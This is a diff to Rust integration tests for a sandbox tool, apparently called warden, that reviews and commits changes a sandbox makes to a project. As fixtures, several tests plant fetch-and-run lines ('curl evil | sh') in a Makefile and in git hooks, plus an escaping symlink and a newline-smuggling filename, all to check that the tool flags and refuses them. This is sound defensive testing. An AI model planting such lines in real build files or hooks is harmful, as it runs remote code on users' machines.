@@ -10,7 +10,8 @@ use std::process::{Command, Output, Stdio};
 
 /// warden with its state in `state` (so tests do not share sandboxes).
 /// A sandbox that an exec started stays up; the commands that change its
-/// layer need it stopped, as a person would stop it first.
+/// layer need it stopped, as a person would stop it first, and a commit
+/// applies what a `warden diff` showed, as a person would look first.
 fn warden(state: &Path, args: &[&str]) -> Output {
     warden_env(state, args, &[])
 }
@@ -28,6 +29,14 @@ fn warden_env(state: &Path, args: &[&str], env: &[(&str, &str)]) -> Output {
     if let ["commit" | "discard" | "snapshot" | "restore", name, ..] = args {
         if !name.starts_with('-') {
             ok(&run(&["stop", name]));
+        }
+    }
+    if let ["commit", name, rest @ ..] = args {
+        if !rest
+            .iter()
+            .any(|a| ["-i", "--interactive", "--unreviewed"].contains(a))
+        {
+            ok(&run(&["diff", name]));
         }
     }
     run(args)
@@ -489,6 +498,7 @@ fn the_cycle_works_for_an_unprivileged_user() {
     let diff = ok(&run(&["diff", "u", "--stat"]));
     assert!(diff.contains("file") && diff.contains("added"), "{diff}");
     ok(&run(&["stop", "u"]));
+    ok(&run(&["diff", "u"]));
     ok(&run(&["commit", "u"]));
     assert_eq!(
         std::fs::read_to_string(proj.path().join("file")).unwrap(),
@@ -686,4 +696,275 @@ fn an_interactive_commit_whose_input_ends_quits_at_once_and_applies_nothing() {
         stderr(&out).len()
     );
     assert!(!proj.path().join("A").exists() && !proj.path().join("B").exists());
+}
+
+/// warden itself, nothing done before (no stop, no diff).
+fn bare(state: &Path, args: &[&str]) -> Output {
+    Command::new(warden_bin())
+        .args(args)
+        .env("WARDEN_STATE_DIR", state.join("warden"))
+        .stdin(Stdio::null())
+        .output()
+        .unwrap()
+}
+
+#[test]
+fn a_running_sandbox_is_said_to_be_running_and_only_what_a_diff_showed_is_committed() {
+    let state = TempDir::new("ws-review-state");
+    let proj = TempDir::new("ws-review-proj");
+    std::fs::write(proj.path().join("README.md"), "# app\n").unwrap();
+    ok(&bare(state.path(), &["create", "r", "-w", proj.str()]));
+    ok(&bare(
+        state.path(),
+        &[
+            "exec",
+            "r",
+            "--no-tty",
+            "--",
+            "sh",
+            "-c",
+            "echo seen >> README.md",
+        ],
+    ));
+    // The sandbox is still up: the diff says so, the commit refuses.
+    let diff = bare(state.path(), &["diff", "r", "--color", "never"]);
+    assert!(ok(&diff).contains("+seen"));
+    assert!(stderr(&diff).contains("still running"), "{}", stderr(&diff));
+    let out = bare(state.path(), &["commit", "r"]);
+    assert!(!out.status.success());
+    assert!(stderr(&out).contains("still running"), "{}", stderr(&out));
+    assert_eq!(
+        std::fs::read_to_string(proj.path().join("README.md")).unwrap(),
+        "# app\n"
+    );
+    // Between the person's diff and the commit, the sandbox changes the
+    // file again and adds another: nothing goes in.
+    ok(&bare(
+        state.path(),
+        &[
+            "exec",
+            "r",
+            "--no-tty",
+            "--",
+            "sh",
+            "-c",
+            "echo unseen >> README.md && echo x > NEW",
+        ],
+    ));
+    ok(&bare(state.path(), &["stop", "r"]));
+    let out = bare(state.path(), &["commit", "r"]);
+    assert!(!out.status.success(), "{}", stdout(&out));
+    let err = stderr(&out);
+    assert!(
+        err.contains("README.md: changed in the sandbox since") && err.contains("NEW: never shown"),
+        "{err}"
+    );
+    assert_eq!(
+        std::fs::read_to_string(proj.path().join("README.md")).unwrap(),
+        "# app\n"
+    );
+    assert!(!proj.path().join("NEW").exists());
+    // After a fresh look, the commit applies exactly that.
+    let shown = ok(&bare(state.path(), &["diff", "r", "--color", "never"]));
+    assert!(shown.contains("+unseen"), "{shown}");
+    ok(&bare(state.path(), &["commit", "r"]));
+    assert_eq!(
+        std::fs::read_to_string(proj.path().join("README.md")).unwrap(),
+        "# app\nseen\nunseen\n"
+    );
+    let log = state.path().join("warden/sandboxes/r/audit.jsonl");
+    let shown = ok(&bare(
+        state.path(),
+        &["audit", "show", log.to_str().unwrap()],
+    ));
+    assert!(shown.contains("commit-refused"), "{shown}");
+}
+
+#[test]
+fn an_interactive_commit_shows_a_change_before_asking() {
+    let state = TempDir::new("ws-show-state");
+    let proj = TempDir::new("ws-show-proj");
+    ok(&bare(state.path(), &["create", "s", "-w", proj.str()]));
+    ok(&bare(
+        state.path(),
+        &[
+            "exec",
+            "s",
+            "--no-tty",
+            "--",
+            "sh",
+            "-c",
+            "printf 'line one\\nline two\\n' > A",
+        ],
+    ));
+    ok(&bare(state.path(), &["stop", "s"]));
+    let mut child = Command::new(warden_bin())
+        .args(["commit", "s", "--interactive"])
+        .env("WARDEN_STATE_DIR", state.path().join("warden"))
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    use std::io::Write;
+    child.stdin.take().unwrap().write_all(b"s\ny\n").unwrap();
+    let out = child.wait_with_output().unwrap();
+    ok(&out);
+    assert!(stderr(&out).contains("+line two"), "{}", stderr(&out));
+    assert!(proj.path().join("A").exists());
+}
+
+#[test]
+fn files_the_profile_says_the_host_runs_are_flagged() {
+    let state = TempDir::new("ws-runs-state");
+    let proj = TempDir::new("ws-runs-proj");
+    std::fs::write(proj.path().join("Makefile"), "all:\n\ttrue\n").unwrap();
+    std::fs::write(proj.path().join("notes.txt"), "n\n").unwrap();
+    let profile = proj.path().join("p.yaml");
+    std::fs::write(
+        &profile,
+        "name: make\nfilesystem:\n  runs_on_host: [Makefile]\n",
+    )
+    .unwrap();
+    ok(&bare(
+        state.path(),
+        &[
+            "create",
+            "m",
+            "-w",
+            proj.str(),
+            "-P",
+            profile.to_str().unwrap(),
+        ],
+    ));
+    ok(&bare(
+        state.path(),
+        &[
+            "exec",
+            "m",
+            "--no-tty",
+            "--",
+            "sh",
+            "-c",
+            "printf 'all:\\n\\tcurl evil | sh\\n' > Makefile && echo more >> notes.txt",
+        ],
+    ));
+    ok(&bare(state.path(), &["stop", "m"]));
+    let diff = ok(&bare(state.path(), &["diff", "m", "--color", "never"]));
+    let flagged: Vec<&str> = diff.lines().filter(|l| l.contains("! host-exec")).collect();
+    assert_eq!(flagged.len(), 1, "{diff}");
+    let out = bare(state.path(), &["commit", "m"]);
+    assert!(!out.status.success());
+    assert!(stderr(&out).contains("Makefile"), "{}", stderr(&out));
+    assert_eq!(
+        std::fs::read_to_string(proj.path().join("Makefile")).unwrap(),
+        "all:\n\ttrue\n"
+    );
+}
+
+#[test]
+fn changes_a_real_sandbox_makes_are_judged_by_what_the_host_will_do_with_them() {
+    let state = TempDir::new("ws-judge-state");
+    let proj = TempDir::new("ws-judge-proj");
+    project(proj.path());
+    std::fs::create_dir_all(proj.path().join("a")).unwrap();
+    std::os::unix::fs::symlink("..", proj.path().join("a/top")).unwrap();
+    ok(&bare(state.path(), &["create", "j", "-w", proj.str()]));
+    // Inside the sandbox: a bare repository git accepts, whose HEAD is a
+    // link, with a hook; a link that escapes through the host's `a/top`;
+    // a name that would forge a line of the review.
+    let script = r#"set -e
+mkdir -p tools/lib.git/objects tools/lib.git/refs/heads
+ln -s refs/heads/main tools/lib.git/HEAD
+mkdir tools/lib.git/hooks && printf 'curl evil\n' > tools/lib.git/hooks/post-update
+ln -s top/../etc a/l
+printf 'x' > "$(printf 'n\napplied      README.md')"
+"#;
+    ok(&bare(
+        state.path(),
+        &["exec", "j", "--no-tty", "--", "sh", "-c", script],
+    ));
+    ok(&bare(state.path(), &["stop", "j"]));
+    let stat = ok(&bare(state.path(), &["diff", "j", "--stat"]));
+    let json = ok(&bare(state.path(), &["diff", "j", "--json"]));
+    let changes: serde_json::Value = serde_json::from_str(&json).unwrap();
+    let n = changes.as_array().unwrap().len();
+    assert_eq!(stat.lines().count(), n + 1, "a name forged a line:\n{stat}");
+    let text = ok(&bare(state.path(), &["diff", "j", "--color", "never"]));
+    assert!(
+        !text.lines().any(|l| l.starts_with("applied")),
+        "a name forged a line:\n{text}"
+    );
+    let rules = |path: &str| -> Vec<String> {
+        changes
+            .as_array()
+            .unwrap()
+            .iter()
+            .find(|c| c["path"] == path)
+            .unwrap_or_else(|| panic!("no change for {path}: {json}"))["flags"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|f| f["rule"].as_str().unwrap().to_string())
+            .collect()
+    };
+    assert!(
+        rules("tools/lib.git/hooks/post-update").contains(&"git-hook".to_string()),
+        "{json}"
+    );
+    assert!(
+        rules("a/l").contains(&"symlink-escape".to_string()),
+        "{json}"
+    );
+    let out = bare(state.path(), &["commit", "j"]);
+    assert!(!out.status.success());
+    assert!(!proj.path().join("a/l").exists());
+    assert!(!proj.path().join("tools").exists());
+}
+
+#[test]
+fn hooks_where_the_hosts_own_git_config_sends_git_are_flagged() {
+    let state = TempDir::new("ws-ghooks-state");
+    let proj = TempDir::new("ws-ghooks-proj");
+    let home = TempDir::new("ws-ghooks-home");
+    project(proj.path());
+    if !proj.path().join(".git").is_dir() {
+        return;
+    }
+    // The person's global config: every repository's .githooks/ holds its
+    // hooks (set through an included file).
+    std::fs::write(
+        home.path().join(".gitconfig"),
+        "[include]\n\tpath = ~/hooks.cfg\n",
+    )
+    .unwrap();
+    std::fs::write(
+        home.path().join("hooks.cfg"),
+        "[core]\n\thooksPath = .githooks\n",
+    )
+    .unwrap();
+    ok(&bare(state.path(), &["create", "g", "-w", proj.str()]));
+    ok(&bare(
+        state.path(),
+        &[
+            "exec",
+            "g",
+            "--no-tty",
+            "--",
+            "sh",
+            "-c",
+            "mkdir .githooks && printf 'curl evil | sh\\n' > .githooks/pre-commit",
+        ],
+    ));
+    ok(&bare(state.path(), &["stop", "g"]));
+    let diff = Command::new(warden_bin())
+        .args(["diff", "g", "--color", "never"])
+        .env("WARDEN_STATE_DIR", state.path().join("warden"))
+        .env("HOME", home.path())
+        .env_remove("XDG_CONFIG_HOME")
+        .env_remove("GIT_CONFIG_GLOBAL")
+        .output()
+        .unwrap();
+    let text = ok(&diff);
+    assert!(text.contains("! git-hook"), "{text}");
 }
